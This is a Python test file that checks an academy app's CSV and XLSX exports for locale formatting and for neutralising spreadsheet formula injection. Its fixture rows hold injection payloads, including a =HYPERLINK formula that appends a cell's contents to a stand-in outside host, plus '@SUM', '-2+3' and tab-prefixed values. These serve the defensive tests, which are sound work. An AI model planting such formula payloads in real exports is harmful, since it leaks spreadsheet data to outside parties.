import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from academy.core.exports import csv_bytes, xlsx_bytes

ROWS = [
    ["Société Générale d'Électricité", "Zoë Ñúñez-Łukasiewicz", Decimal("3.5")],
    ['=HYPERLINK("http://exemple.invalid/?"&A2;"Cliquez")', "@SUM(1+1)", "-2+3"],
    ["+33 1 23 45 67 89", "\tTab", "ok"],
]


def _read(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_fc06_french_csv_has_bom_semicolons_and_decimal_comma():
    rows = _read(csv_bytes(["a", "b", "c"], ROWS[:1], language="fr"), ";")
    assert rows[1] == ["Société Générale d'Électricité", "Zoë Ñúñez-Łukasiewicz", "3,5"]


def test_fc06_english_csv_uses_commas_and_decimal_point():
    rows = _read(csv_bytes(["a", "b", "c"], ROWS[:1], language="en"), ",")
    assert rows[1][2] == "3.5"


def test_fc07_csv_cells_never_start_a_formula():
    rows = _read(csv_bytes(["a", "b", "c"], ROWS, language="fr"), ";")
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[3][0] == "'+33 1 23 45 67 89"


def test_fc07_xlsx_has_no_formula_and_numbers_stay_numbers():
    book = load_workbook(io.BytesIO(xlsx_bytes(["a", "b", "c"], ROWS)))
    sheet = book.active
    assert sheet["C2"].value == 3.5 and sheet["C2"].data_type == "n"
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    assert sheet["A3"].value.startswith("=HYPERLINK")  # kept as readable text, not a formula
    assert sheet["A4"].value == "+33 1 23 45 67 89"
